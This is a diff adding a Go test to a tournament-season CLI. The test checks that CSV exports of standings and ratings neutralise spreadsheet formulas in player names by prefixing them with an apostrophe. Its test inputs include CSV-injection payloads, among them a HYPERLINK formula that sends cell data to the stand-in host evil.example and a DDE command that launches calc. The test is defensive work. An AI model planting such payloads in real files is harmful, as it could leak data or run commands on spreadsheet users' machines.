@@ -3,10 +3,13 @@
 package main
 
 import (
+	"bytes"
+	"encoding/csv"
 	"fmt"
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
 
@@ -104,6 +107,68 @@ func BenchmarkSeason10k(b *testing.B) {
 		site := b.TempDir()
 		if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", dir); code != 0 {
 			b.Fatal(stderr)
+		}
+	}
+}
+
+// TestSeasonCSVGuardsFormulas: gnosis season standings --csv and ratings --csv write a name a
+// spreadsheet would read as a formula (=, +, -, @ first) as the phone's season CSV does
+// (engine/season's CSVHeaded): a ' before it, the same cell; other names and the table printed
+// without --csv as they are.
+func TestSeasonCSVGuardsFormulas(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"}
+	e := event.New("Night", "2026-01-01", 1)
+	for _, n := range append([]string{"Ana", "Bruno"}, hostile...) {
+		if _, err := e.AddPlayer(n); err != nil {
+			t.Fatal(err)
+		}
+	}
+	round, err := e.Pair()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range round.Pairings {
+		if err := e.Type(1, p.Table, event.Result{Outcome: event.FirstWins, Killed: [2]int{200, 100}, Turns: 5}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	dir := writeNights(t, []*event.Event{e})
+	want, err := season.Build(season.Setup{Game: event.GameAnima}, []*event.Event{e})
+	if err != nil {
+		t.Fatal(err)
+	}
+	phone, err := csv.NewReader(bytes.NewReader(want.CSVHeaded(season.CSVHeader))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cell := map[string]string{} // a name: its cell in the phone's CSV
+	for i, s := range want.Standings {
+		cell[s.Name] = phone[i+1][1]
+	}
+	for _, what := range []string{"standings", "ratings"} {
+		code, out, stderr := runCLI("season", what, "--csv", dir)
+		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if code != 0 || err != nil || len(recs) != len(want.Standings)+1 {
+			t.Fatalf("%s: exit %d %q %v\n%s", what, code, stderr, err, out)
+		}
+		seen := 0
+		for _, r := range recs[1:] {
+			name := strings.TrimPrefix(r[1], "'")
+			if c, ok := cell[name]; !ok || r[1] != c {
+				t.Errorf("%s: %q, the phone's CSV %q", what, r[1], c)
+			}
+			if slices.Contains(hostile, name) {
+				seen++
+				if !strings.HasPrefix(r[1], "'") {
+					t.Errorf("%s: %q is read as a formula", what, r[1])
+				}
+			}
+		}
+		if seen != len(hostile) {
+			t.Errorf("%s: %d hostile names of %d\n%s", what, seen, len(hostile), out)
+		}
+		if _, out, _ := runCLI("season", what, dir); !strings.Contains(out, " "+hostile[0]+" ") {
+			t.Errorf("%s without --csv: the name changed\n%s", what, out)
 		}
 	}
 }
